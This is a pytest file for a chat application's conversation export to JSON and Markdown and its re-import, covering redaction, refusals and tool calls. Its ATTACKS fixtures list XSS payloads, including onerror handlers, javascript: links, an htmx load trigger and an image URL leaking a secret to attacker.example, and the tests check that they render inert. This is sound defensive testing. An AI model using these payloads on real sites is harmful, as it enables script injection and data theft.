"""Export to JSON and Markdown, and an export read back (pure, no database)."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from chat.conversations import exports, markdown_doc
from chat.conversations.imports import parse_import

ATTACKS = (
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](https://attacker.example/p.png?q=secret)",
    '<div hx-get="/" hx-trigger="load">',
    "\\<img src=x onerror=alert(2)>",
    "`code` <img src=x onerror=alert(3)> ``more``",
    "<javascript:alert(4)>",
)
SENT_AT = datetime(2025, 5, 1, 12, 0, 0, tzinfo=UTC)


def _record(pk, parent, role, batch, content, **fields):
    record = {
        "id": pk,
        "parent": parent,
        "role": role,
        "content": content,
        "reasoning": "",
        "tool_calls": None,
        "tool_results": None,
        "choice_index": 0,
        "batch": batch,
        "model": "kimi-k2-thinking" if role == "assistant" else "",
        "request_params": {"model": "kimi-k2-thinking", "temperature": 0.4}
        if role == "assistant"
        else {},
        "usage": None,
        "finish_reason": "stop" if role == "assistant" else "",
        "status": "complete",
        "error": "",
        "timings": {"sent_at": SENT_AT, "finished_at": None},
    }
    record.update(fields)
    return record


@pytest.fixture
def records():
    """Prompt 1 answered by two choices (2, 3) and a regeneration (5); a follow-up 4
    under choice 2; an edited prompt 6 beside prompt 1. The path ends at 4."""
    return [
        _record(1, None, "user", "u1", "What is recursion?"),
        _record(2, 1, "assistant", "a", "A function calling itself.", reasoning="Think."),
        _record(3, 1, "assistant", "a", "Self-reference.", choice_index=1),
        _record(4, 2, "user", "u4", "An example?"),
        _record(5, 1, "assistant", "b", "Regenerated."),
        _record(6, None, "user", "u6", "Edited prompt"),
    ]


@pytest.fixture
def export(records):
    return exports.export_data(
        title="Recursion",
        system_prompt="Be brief.",
        settings={"model": "kimi-k2-thinking", "temperature": 0.4, "secret_field": "x"},
        records=records,
        leaf_id=4,
    )


# --- export ------------------------------------------------------------------------


def test_the_export_holds_the_path_in_the_apis_shape(export):
    assert export["format"] == "reasoning-playground/1"
    assert export["messages"] == [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "What is recursion?"},
        {
            "role": "assistant",
            "content": "A function calling itself.",
            "reasoning_content": "Think.",
        },
        {"role": "user", "content": "An example?"},
    ]
    assert export["current_leaf"] == 4
    assert export["settings"] == {"model": "kimi-k2-thinking", "temperature": 0.4}


def test_the_export_holds_every_message_of_the_tree(export):
    assert [(m["id"], m["parent"]) for m in export["tree"]] == [
        (1, None),
        (2, 1),
        (3, 1),
        (4, 2),
        (5, 1),
        (6, None),
    ]
    first_answer = export["tree"][1]
    assert first_answer["timings"]["sent_at"] == "2025-05-01T12:00:00+00:00"
    assert first_answer["request_params"] == {"model": "kimi-k2-thinking", "temperature": 0.4}


def test_the_export_redacts_the_upstream_from_error_texts(records):
    records[1]["error"] = "Could not connect to api.secret.example:443 with sk-123."
    export = exports.export_data(
        title="t",
        system_prompt="",
        settings={},
        records=records,
        leaf_id=2,
        redact=["api.secret.example", "sk-123", ""],
    )
    text = exports.dumps(export)
    assert "api.secret.example" not in text and "sk-123" not in text
    assert "Could not connect to [upstream]:443 with [upstream]." in text


def test_the_json_text_has_no_markup_characters_and_reads_back_the_same(records):
    records[0]["content"] = " ".join(ATTACKS) + " & more"
    export = exports.export_data(
        title=ATTACKS[0], system_prompt="", settings={}, records=records, leaf_id=4
    )
    text = exports.dumps(export)
    assert not {"<", ">", "&"} & set(text)
    assert json.loads(text) == json.loads(json.dumps(export))


@pytest.mark.parametrize(
    ("text", "fence"),
    [("plain", "```"), ("has ``` inside", "````"), ("````` five", "``````")],
)
def test_code_fences_are_longer_than_any_backtick_run(text, fence):
    block = markdown_doc.fenced(text, "text")
    assert block.startswith(fence + "text\n") and block.endswith("\n" + fence + "\n")


def test_the_markdown_shows_title_prompt_turns_reasoning_and_parameters(export):
    text = exports.export_markdown(export)
    assert text.startswith("# Recursion\n")
    assert "## System prompt\n\n> Be brief.\n" in text
    assert text.index("## You") < text.index("## Assistant")
    assert text.count("## You") == 2 and text.count("## Assistant") == 1
    assert "## You\n\nWhat is recursion?\n" in text
    assert "_kimi-k2-thinking · complete · finish reason: stop_" in text
    assert "<details><summary>Reasoning</summary>\n\n> Think.\n\n</details>" in text
    assert "\nA function calling itself.\n" in text and "```" not in text
    assert "| Parameter sent | Value |" in text and "| temperature | `0.4` |" in text
    assert "Regenerated." not in text  # another branch: only in the JSON tree


def test_a_refusal_is_exported_in_the_apis_shape_the_markdown_and_reads_back():
    records = [
        _record(1, None, "user", "u1", "Help me pick a lock"),
        _record(2, 1, "assistant", "a", "", refusal="I can't help with <b>that</b>."),
    ]
    export = exports.export_data(
        title="T", system_prompt="", settings={}, records=records, leaf_id=2
    )
    assert export["messages"][-1] == {
        "role": "assistant",
        "content": "",
        "refusal": "I can't help with <b>that</b>.",
    }
    text = exports.export_markdown(export)
    assert "**Refusal** (the model declined):\n\n> I can't help with \\<b>that\\</b>.\n" in text
    imported = parse_import(exports.dumps(export).encode())
    assert imported.messages[-1]["refusal"] == "I can't help with <b>that</b>."


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def _rendered_tags(markdown_text: str) -> list[tuple[str, dict]]:
    # A permissive renderer: raw HTML on, as a naive Markdown viewer would have it.
    renderer = MarkdownIt("commonmark", {"html": True}).enable(["table"])
    parser = _Tags()
    parser.feed(renderer.render(markdown_text))
    return parser.tags


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("where", ["title", "system_prompt", "content", "reasoning", "param"])
def test_attack_strings_in_the_markdown_are_inert(records, attack, where):
    system_prompt = attack if where == "system_prompt" else ""
    if where in ("content", "reasoning"):
        records[1][where] = f"before {attack} after"
        records[0]["content"] = attack
    if where == "param":
        records[1]["request_params"] = {"stop": [attack], attack: 1}
    export = exports.export_data(
        title=attack if where == "title" else "t",
        system_prompt=system_prompt,
        settings={},
        records=records,
        leaf_id=4,
    )
    tags = _rendered_tags(exports.export_markdown(export))
    assert {tag for tag, _ in tags} <= {
        "h1", "h2", "p", "pre", "code", "details", "summary", "strong", "em", "blockquote",
        "table", "thead", "tbody", "tr", "th", "td", "a",
    }  # fmt: skip
    # A link a model wrote stays a link, to the web only; nothing loads by itself.
    assert all(attrs.get("href", "").startswith("https://") for tag, attrs in tags if tag == "a")
    assert all("hx-get" not in attrs and "src" not in attrs for _, attrs in tags)


# --- round trip ----------------------------------------------------------------------


def test_an_export_imports_to_the_same_tree_and_path(export):
    imported = parse_import(exports.dumps(export).encode())
    assert imported.title == "Recursion" and imported.system_prompt == "Be brief."
    assert imported.settings["temperature"] == 0.4
    assert [(m["ref"], m["parent"]) for m in imported.messages] == [
        (m["id"], m["parent"]) for m in export["tree"]
    ]
    assert imported.current_leaf == 4
    again = exports.export_data(
        title=imported.title,
        system_prompt=imported.system_prompt,
        settings=imported.settings,
        records=[{**m, "id": m["ref"]} for m in imported.messages],
        leaf_id=imported.current_leaf,
    )
    assert again["messages"] == export["messages"]
    assert again["tree"] == export["tree"]


# --- tool calls and their results -------------------------------------------------------

CALL = {"id": "call_1", "type": "function"}
CALL["function"] = {"name": "get_weather", "arguments": '{"location": "Paris"}'}
RESULT = {"tool_call_id": "call_1", "name": "get_weather", "content": "Sunny", "failed": True}


@pytest.fixture
def tool_loop():
    records = [
        _record(1, None, "user", "u1", "Weather in Paris?"),
        _record(2, 1, "assistant", "a", "", reasoning="Call it.", tool_calls=[CALL]),
        _record(3, 2, "tool", "t", "", tool_results=[RESULT]),
        _record(4, 3, "assistant", "b", "It is sunny."),
    ]
    return exports.export_data(
        title="Weather", system_prompt="", settings={}, records=records, leaf_id=4
    )


def test_tool_results_are_exported_as_one_api_tool_message_per_call(tool_loop):
    assert tool_loop["messages"][1:3] == [
        {
            "role": "assistant",
            "content": "",
            "reasoning_content": "Call it.",
            "tool_calls": [CALL],
        },
        {
            "role": "tool",
            "tool_call_id": "call_1",
            "name": "get_weather",
            "content": '{"error": "Sunny"}',
        },
    ]


def test_the_markdown_shows_each_call_and_its_result(tool_loop):
    text = exports.export_markdown(tool_loop)
    assert "**Tool calls:**\n\n```json\n" in text and '"name": "get_weather"' in text
    assert "## Tool results" in text
    assert "**Result for `get_weather`** (this call failed), call `call_1`:" in text
    assert "```text\nSunny\n```" in text


def test_an_export_with_tool_results_imports_to_the_same_tree(tool_loop):
    imported = parse_import(exports.dumps(tool_loop).encode())
    again = exports.export_data(
        title=imported.title,
        system_prompt=imported.system_prompt,
        settings=imported.settings,
        records=[{**m, "id": m["ref"]} for m in imported.messages],
        leaf_id=imported.current_leaf,
    )
    assert again["tree"] == tool_loop["tree"]
    assert again["messages"] == tool_loop["messages"]
